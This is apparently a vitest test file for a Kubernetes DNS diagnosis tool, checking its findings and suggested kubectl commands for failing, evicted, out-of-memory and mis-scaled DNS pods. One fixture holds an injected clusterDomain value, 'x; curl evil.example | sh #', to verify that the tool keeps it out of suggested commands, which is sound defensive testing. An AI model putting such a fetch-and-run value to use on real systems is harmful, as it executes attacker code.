import { describe, expect, it } from "vitest";
import { diagnose } from "../../../src/model/doctor/diagnose";
import type { Finding } from "../../../src/model/doctor/finding";
import type { Pod, Workload } from "../../../src/model/kubernetes/kinds";
import type { ClusterDnsProps } from "../../../src/model/props/cluster-dns";
import { described, found, healthy, pod, props, replaced } from "./healthy";

const is = healthy();
const unready = [{ type: "Ready", status: "False" }];

/** Findings if `coredns-0` has this status. */
function withStatus(status: NonNullable<Pod["status"]>) {
  const pods = replaced(is.pods, "coredns-0", (each) => ({
    ...each,
    status: { ...each.status, conditions: unready, ...status },
  }));
  // Its Service still has an endpoint for it, as in the moment before the controllers notice.
  return found({ pods }).filter(({ where }) => where.includes("coredns-0"));
}

describe("a pod that does not serve", () => {
  const waiting = (reason: string, message: string) => ({
    containerStatuses: [{ name: "coredns", restartCount: 3, state: { waiting: { reason, message } } }],
  });

  it.each([
    [
      "cannot be scheduled",
      { phase: "Pending", conditions: [{ type: "PodScheduled", status: "False", message: "0/2 nodes are available" }] },
      "0/2 nodes are available",
    ],
    ["cannot pull its image", waiting("ImagePullBackOff", 'Back-off pulling image "x"'), 'Back-off pulling image "x"'],
    ["ends again and again (CrashLoopBackOff)", waiting("CrashLoopBackOff", "back-off 40s"), "back-off 40s"],
    ["cannot start: CreateContainerConfigError", waiting("CreateContainerConfigError", "no such key"), "no such key"],
    [
      "is not ready",
      { containerStatuses: [{ name: "coredns", ready: false, state: { running: {} } }] },
      "container coredns runs, but is not ready",
    ],
  ])("because it %s", (title, status, evidence) => {
    expect(withStatus(status)).toEqual([
      {
        severity: title === "is not ready" ? "warning" : "error",
        title,
        where: "pod kube-system/coredns-0 on node-1 of Deployment coredns",
        evidence: [evidence, "1 of 2 pods are ready"],
      },
    ]);
  });

  it("is no error if it is the autoscaler's", () => {
    const from = described({ ...props, authoritativeDNS: { autoscaler: { min: 1 } } });
    const healthyOne = healthy(from);
    const pods = replaced(healthyOne.pods, "dns-autoscaler-0", (each) => ({
      ...each,
      status: { ...each.status, conditions: unready, ...waiting("ErrImagePull", "no such host") },
    }));
    expect(diagnose({ ...healthyOne, pods }, from)).toMatchObject([
      { severity: "warning", title: "cannot pull its image" },
    ]);
  });

  it("is kube-proxy's", () => {
    const matchLabels = { "k8s-app": "kube-proxy" };
    const template = { spec: { containers: [{ name: "kube-proxy" }] } };
    const own = pod("kube-proxy-a", "kube-system", { nodeName: "node-1" });
    const crashing = {
      ...own,
      metadata: { ...own.metadata, labels: matchLabels, ownerReferences: [{ kind: "DaemonSet", name: "kube-proxy" }] },
      status: { phase: "Running", conditions: unready, ...waiting("CrashLoopBackOff", "back-off 40s") },
    };
    const daemonSet: Workload = {
      apiVersion: "apps/v1",
      kind: "DaemonSet",
      metadata: { name: "kube-proxy", namespace: "kube-system" },
      spec: { selector: { matchLabels }, template },
      status: { desiredNumberScheduled: 2 },
    };
    const more = { pods: [...(is.pods ?? []), crashing], workloads: [...(is.workloads ?? []), daemonSet] };
    expect(found(more)).toMatchObject([
      {
        title: "ends again and again (CrashLoopBackOff)",
        where: "pod kube-system/kube-proxy-a on node-1 of DaemonSet kube-proxy",
      },
    ]);
  });

  it("because of its memory limit, with the pod's, the template's and the described one", () => {
    const workloads = replaced(is.workloads, "coredns", (each) => {
      const containers = each.spec.template.spec.containers.map((one) => ({
        ...one,
        resources: { limits: { memory: "20Mi" } },
      }));
      return { ...each, spec: { ...each.spec, template: { spec: { ...each.spec.template.spec, containers } } } };
    });
    const killed = { reason: "OOMKilled", exitCode: 137, finishedAt: "2026-11-01T00:00:00Z" };
    const pods = replaced(is.pods, "coredns-0", (each) => ({
      ...each,
      status: {
        ...each.status,
        containerStatuses: [
          { name: "coredns", restartCount: 2, state: { running: {} }, lastState: { terminated: killed } },
        ],
      },
    }));
    expect(found({ workloads, pods })).toMatchObject([
      {
        severity: "warning",
        title: "has a lower memory limit than described",
        evidence: ["container coredns may use 20Mi, the cluster file renders 690Mi"],
      },
      {
        severity: "warning",
        title: "was killed because it needed more memory than its limit",
        evidence: [
          "container coredns ended 2 times, last with OOMKilled (exit code 137) at 2026-11-01T00:00:00Z",
          "memory limit: 690Mi of the pod, 20Mi of the template, 690Mi as rendered from the cluster file",
          expect.stringContaining("size"),
          "2 of 2 pods are ready",
        ],
      },
    ]);
  });

  it("because of the memory limit of an init container, which has ended well since", () => {
    const killed = { reason: "OOMKilled", exitCode: 137 };
    const status = { state: { terminated: { exitCode: 0 } }, lastState: { terminated: killed } };
    const limited = { name: "node-setup", resources: { limits: { memory: "20Mi" } } };
    const pods = replaced(is.pods, "node-local-dns-0", (each) => ({
      ...each,
      spec: { ...each.spec, initContainers: [limited] },
      status: { ...each.status, initContainerStatuses: [{ name: "node-setup", restartCount: 1, ...status }] },
    }));
    expect(found({ pods })).toMatchObject([
      {
        severity: "warning",
        evidence: [
          expect.any(String),
          expect.stringMatching(/^memory limit: 20Mi of the pod, /),
          expect.any(String),
          expect.any(String),
        ],
      },
    ]);
  });

  it("because it was evicted, which a successor mends", () => {
    expect(withStatus({ phase: "Failed", reason: "Evicted", message: "low on memory" })).toMatchObject([
      { severity: "info", title: "was evicted" },
    ]);
  });

  it("because there is none", () => {
    const workloads = replaced(is.workloads, "coredns", () => undefined);
    expect(found({ workloads })).toMatchObject([
      { severity: "error", title: "is missing", where: "Deployment kube-system/coredns" },
    ]);
    const pods = replaced(is.pods, "coredns-0", () => undefined);
    const tooFew = { severity: "warning", title: "has too few pods" };
    // Its endpoint is still there.
    const foreign = { severity: "error", title: "has other endpoints than its ready pods" };
    expect(found({ pods })).toMatchObject([foreign, { ...tooFew, evidence: ["1 of 2 pods exist, 1 are ready"] }]);
    // The Deployment knows who does not let it have them.
    const message = 'admission webhook "policy.example" denied the request';
    const refusing = replaced(is.workloads, "coredns", (each) => ({
      ...each,
      status: { conditions: [{ type: "ReplicaFailure", status: "True", reason: "FailedCreate", message }] },
    }));
    expect(found({ pods, workloads: refusing })).toMatchObject([
      foreign,
      { ...tooFew, evidence: ["1 of 2 pods exist, 1 are ready", `new pods are refused: ${message}`] },
    ]);
  });

  it.each<[what: string, ClusterDnsProps, replicas: number, Partial<Finding>, mends: RegExp]>([
    [
      "to 0",
      props,
      0,
      { severity: "error", title: "is scaled to 0", evidence: ["spec.replicas is 0, the cluster file says 2"] },
      /^kubectl apply .* -k dist\/prod$/,
    ],
    [
      "to fewer than described",
      props,
      1,
      { severity: "warning", title: "is scaled to fewer pods than described" },
      /^kubectl apply .* -k dist\/prod$/,
    ],
    [
      "to fewer than the autoscaler's least",
      { ...props, authoritativeDNS: { autoscaler: { min: 3 } } },
      2,
      { severity: "warning", evidence: ["spec.replicas is 2, the cluster file says autoscaler, with at least 3"] },
      /^kubectl scale deployment coredns .*--replicas=3$/,
    ],
  ])("because somebody scaled it %s", (_, given, replicas, finding, mends) => {
    const from = described(given);
    const healthyOne = healthy(from);
    const workloads = replaced(healthyOne.workloads, "coredns", (each) => ({
      ...each,
      spec: { ...each.spec, replicas },
    }));
    const [first] = diagnose({ ...healthyOne, workloads }, from);
    expect(first).toMatchObject({ where: "Deployment kube-system/coredns", ...finding });
    expect(first?.next.at(-1)).toMatch(mends);
  });

  it("because a cluster DNS that is not ours is scaled to 0", () => {
    const from = described({ ...props, authoritativeDNS: { kind: "Existing" } });
    const workloads = replaced(is.workloads, "coredns", (each) => ({ ...each, spec: { ...each.spec, replicas: 0 } }));
    expect(diagnose({ ...healthy(from), workloads }, from)[0]).toMatchObject({
      title: "is scaled to 0",
      next: ["kubectl scale deployment coredns -n kube-system --replicas=2"],
    });
  });

  it("on a node that should have a cache", () => {
    const pods = replaced(is.pods, "node-local-dns-1", () => undefined);
    expect(found({ pods })).toContainEqual(
      expect.objectContaining({
        severity: "warning",
        title: "no pod of node-local-dns runs here",
        where: "node node-2",
      }),
    );
  });
});

describe("pods with a resolv.conf of their own", () => {
  it("ask other servers, or the node's on its network", () => {
    const pods = [
      ...(is.pods ?? []),
      pod("own", "bar", { dnsPolicy: "None", dnsConfig: { nameservers: ["192.0.2.53"] } }),
      pod("host", "bar", { hostNetwork: true }),
      pod("fine", "bar", { dnsPolicy: "None", dnsConfig: { nameservers: ["10.96.0.10"] } }),
    ];
    expect(found({ pods })).toMatchObject([
      { severity: "info", title: "pods ask other servers than the cluster's", where: "pod bar/own" },
      {
        severity: "info",
        title: "pods on the host's network do not resolve the cluster's names",
        where: "pod bar/host",
      },
    ]);
  });

  it("that run busybox, whose nslookup ignores the search list", () => {
    const containers = [{ name: "c", image: "docker.io/library/busybox:1.36" }];
    const pods = [
      ...(is.pods ?? []),
      pod("try", "bar", { containers }),
      pod("other", "bar", { containers: [{ name: "c", image: "mybusybox:1" }] }),
    ];
    expect(found({ pods })).toMatchObject([
      { severity: "info", title: "nslookup of busybox ignores the search list", where: "pod bar/try" },
    ]);
    const from = described({ ...props, clusterDomain: "corp.example" });
    expect(diagnose({ ...healthy(from), pods }, from).flatMap(({ next }) => next)).toContain(
      "kubectl exec try -n bar -- nslookup kubernetes.default.svc.corp.example.",
    );
    // Without a cluster file, a node says the domain; but not what somebody runs.
    const kubelets = new Map([
      ["node-1", { clusterDNS: ["10.96.0.10"], clusterDomain: "x; curl evil.example | sh #" }],
    ]);
    expect(diagnose({ ...is, pods, kubelets }).flatMap(({ next }) => next)).toEqual([
      "kubectl exec try -n bar -- nslookup kubernetes.default.svc.cluster.local.",
    ]);
  });
});
